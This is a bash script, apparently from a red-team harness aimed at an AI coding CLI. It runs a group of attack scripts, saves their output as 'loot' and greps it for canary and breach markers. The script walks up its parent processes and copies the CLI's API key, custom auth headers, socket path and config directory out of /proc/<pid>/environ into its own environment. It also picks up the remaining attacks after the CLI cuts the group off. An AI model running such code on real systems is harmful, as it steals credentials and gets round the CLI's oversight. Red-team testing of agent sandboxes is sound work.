# Runs every attack of a group, each on its own, and shows what was got hold of.
cd "${0%/*}/.." || exit 1
. ./attack/env.sh
has() { [ -n "${!1:-}" ]; }
# What the CLI keeps from its commands is in its own environment: it is one of those that
# this came from.
p=$PPID
while ! has ANTHROPIC_UNIX_SOCKET || ! has ANTHROPIC_CUSTOM_HEADERS; do
	case $p in '' | 0 | "$BOT") break ;; esac
	while IFS= read -r -d '' entry; do
		case $entry in ANTHROPIC_UNIX_SOCKET=* | ANTHROPIC_CUSTOM_HEADERS=* | ANTHROPIC_API_KEY=* | CLAUDE_CONFIG_DIR=*)
			has "${entry%%=*}" || export "$entry"
			;;
		esac
	done <"/proc/$p/environ"
	p=$(sed -n 's/^PPid:[^0-9]*//p' "/proc/$p/status")
done 2>/dev/null
export TOKENHEADER="$ANTHROPIC_CUSTOM_HEADERS"$'\r\n'
loot=$PWD/attack/loot/$1
mkdir -p "$loot" "$BEATS" attack/fired
for f in "$PWD/attack/$1"/*; do
	[ ! -e "$loot/${f##*/}" ] || continue # the CLI has cut the group off, and this is the rest
	timeout -k 1 10 bash "$f" >"$loot/${f##*/}" 2>&1 </dev/null
done
grep -ha -e CANARY- -e BREACH: "$loot"/* | head -c 5000
exit 0
